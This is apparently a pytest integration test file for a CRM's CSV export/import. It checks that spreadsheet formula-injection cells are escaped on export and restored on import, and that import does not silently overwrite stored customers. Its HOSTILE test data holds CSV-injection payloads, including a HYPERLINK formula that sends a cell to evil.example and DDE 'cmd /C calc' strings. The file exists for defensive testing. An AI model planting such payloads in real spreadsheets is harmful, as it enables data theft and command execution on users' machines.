"""CSV export/import hardening (issue 13, item 10), on SQLite and PostgreSQL.

Export neutralises cells a spreadsheet would run (formula injection) and import undoes it,
so a round trip is lossless; import never changes a customer stored before it unless
asked, and a dry run reports the same outcome while writing nothing.
"""

from __future__ import annotations

import csv
import io

import pytest

from crm_store import customer_csv, customers
from crm_store.customer_csv import escape_cell, unescape_cell
from tests.integration.conftest import CountRows, Store

pytestmark = pytest.mark.integration

HEADER = "name,company,tier,language,segment,notes,phones,emails\n"
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "company": "+cmd|' /C calc'!A0",
    "segment": "-2+3",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def _import(store: Store, text: str, **options: bool) -> customer_csv.ImportReport:
    return await customer_csv.import_customers(
        store.sessionmaker, io.StringIO(text), region="GB", **options
    )


async def _export(store: Store) -> str:
    out = io.StringIO()
    async with store.sessionmaker() as session:
        await customer_csv.export_customers(session, out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-Ann", "'-Ann"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1", "''=1"),
        ("''+1", "'''+1"),
        ("'Brien", "'Brien"),
        ("O'Brien", "O'Brien"),
        ("Ann", "Ann"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_escape_rule_is_reversible(value: str, cell: str) -> None:
    assert escape_cell(value) == cell
    assert unescape_cell(cell) == value


async def test_export_neutralises_formula_cells(store: Store) -> None:
    async with store.sessionmaker.begin() as session:
        await customers.create_customer(
            session,
            **HOSTILE,
            phones=["+44 20 7946 0018", "07700 900461"],
            emails=["zoe@example.com"],
            region="GB",
        )
    rows = list(csv.reader(io.StringIO(await _export(store))))
    record = dict(zip(rows[0], rows[1], strict=True))
    for column in ("name", "company", "segment", "notes"):
        assert record[column] == "'" + HOSTILE[column], column
    # Stored phones are E.164, "+" and digits only: nothing to run, left as is.
    assert record["phones"] == "+442079460018;+447700900461"
    for value in rows[1]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == record["phones"]


async def test_round_trip_is_lossless(store: Store, count_rows: CountRows) -> None:
    async with store.sessionmaker.begin() as session:
        for name, company, notes in (
            ("-Ann", "+Plus Ltd", "=SUM(A1)"),
            ("'Brien", "''=quoted", "'@"),
            ("@handle", None, "\tindented"),
        ):
            await customers.create_customer(
                session, name=name, company=company, notes=notes, region="GB"
            )
        await customers.create_customer(
            session, name="Intl", phones=["+1 212 555 0134"], emails=["=x@example.com"], region="GB"
        )
    exported = await _export(store)
    before = await count_rows()
    again = await _import(store, exported)
    assert (again.created, again.updated, again.skipped, again.refused) == (0, 0, 0, [])
    assert again.unchanged == 4
    assert await count_rows() == before
    async with store.sessionmaker() as session:
        found = await customers.search_customers(session, "", limit=10, region="GB")
    assert sorted((c.name, c.company, c.notes) for c in found) == sorted(
        [
            ("-Ann", "+Plus Ltd", "=SUM(A1)"),
            ("'Brien", "''=quoted", "'@"),
            ("@handle", None, "indented"),  # the store trims text fields on the way in
            ("Intl", None, None),
        ]
    )
    intl = next(c for c in found if c.name == "Intl")
    assert {(p.kind, p.value) for p in intl.contact_points} == {
        ("phone", "+12125550134"),
        ("email", "=x@example.com"),
    }


async def test_a_hand_quoted_phone_imports_as_the_number(store: Store) -> None:
    # What a spreadsheet user types to keep "+44" from becoming a formula.
    report = await _import(store, HEADER + "Quoted,,,,,,'+44 20 7946 0018,\n")
    assert (report.created, report.refused) == (1, [])
    async with store.sessionmaker() as session:
        assert await customers.find_customer_by_phone(session, "+442079460018", "GB")


STORED = HEADER + "Zoë Martin,Northwind,gold,en,retail,likes email,+44 20 7946 0018,\n"
# Same phone, other name and notes, a new email: the silent rename of the issue.
CHANGING = (
    HEADER
    + "Zoe Renamed,,,,,calls at night,020 7946 0018,zoe@work.example\n"
    + "Brand New,,,,,,07700 900999,\n"
    + ",Northwind,,,,,+44 20 7946 0018,\n"  # an empty cell keeps the stored value
)


async def test_default_import_does_not_overwrite_a_stored_customer(
    store: Store, count_rows: CountRows
) -> None:
    await _import(store, STORED)
    before = await count_rows()
    report = await _import(store, CHANGING)
    assert (report.created, report.updated, report.unchanged, report.skipped) == (1, 0, 1, 1)
    assert (report.refused, report.written) == ([], True)
    [skipped] = [row for row in report.rows if row.outcome == "skipped"]
    assert skipped.line == 2
    assert skipped.changes == [
        ("name", "Zoë Martin", "Zoe Renamed"),
        ("notes", "likes email", "calls at night"),
        ("email", None, "zoe@work.example"),
    ]
    assert customer_csv.describe_row(skipped) == (
        f"line 2: skipped customer {skipped.customer_id} (Zoë Martin), stored before this "
        "import: would change name 'Zoë Martin' -> 'Zoe Renamed'; notes 'likes email' -> "
        "'calls at night'; add email zoe@work.example (--update-existing to apply)"
    )
    after = await count_rows()
    assert after["customers"] == before["customers"] + 1  # Brand New only
    assert after["contact_points"] == before["contact_points"] + 1
    async with store.sessionmaker() as session:
        zoe = await customers.find_customer_by_phone(session, "+442079460018", "GB")
        assert zoe is not None
        assert (zoe.name, zoe.notes) == ("Zoë Martin", "likes email")
        assert await customers.find_customer_by_email(session, "zoe@work.example") is None


async def test_update_existing_applies_the_changes(store: Store) -> None:
    await _import(store, STORED)
    report = await _import(store, CHANGING, update_existing=True)
    assert (report.created, report.updated, report.unchanged, report.skipped) == (1, 1, 1, 0)
    async with store.sessionmaker() as session:
        zoe = await customers.find_customer_by_email(session, "zoe@work.example")
        assert zoe is not None
        assert (zoe.name, zoe.notes, zoe.tier) == ("Zoe Renamed", "calls at night", "gold")


@pytest.mark.parametrize("update_existing", [False, True])
async def test_dry_run_reports_the_same_and_writes_nothing(
    store: Store, count_rows: CountRows, update_existing: bool
) -> None:
    await _import(store, STORED)
    before = await count_rows()
    dry = await _import(store, CHANGING, dry_run=True, update_existing=update_existing)
    assert await count_rows() == before
    assert (dry.dry_run, dry.written) == (True, False)
    real = await _import(store, CHANGING, update_existing=update_existing)
    assert real.written
    counts = [(r.created, r.updated, r.unchanged, r.skipped, r.refused) for r in (dry, real)]
    assert counts[0] == counts[1]
    assert [(r.line, r.outcome, r.changes) for r in dry.rows] == [
        (r.line, r.outcome, r.changes) for r in real.rows
    ]
    lines = [customer_csv.describe_row(row, dry_run=True) for row in dry.rows]
    assert lines[1].startswith("line 3: would create customer ")
    if update_existing:
        assert lines[0].startswith("line 2: would update customer ")
        assert "name 'Zoë Martin' -> 'Zoe Renamed'" in lines[0]


async def test_dry_run_with_bad_rows_lists_them_and_writes_nothing(
    store: Store, count_rows: CountRows
) -> None:
    before = await count_rows()
    report = await _import(
        store, HEADER + "Good,,,,,,+44 20 7946 0001,\nBad,,diamond,,,,,\n", dry_run=True
    )
    assert report.created == 1
    assert report.refused == [(3, "tier 'diamond' is not one of bronze, silver, gold, platinum")]
    assert await count_rows() == before
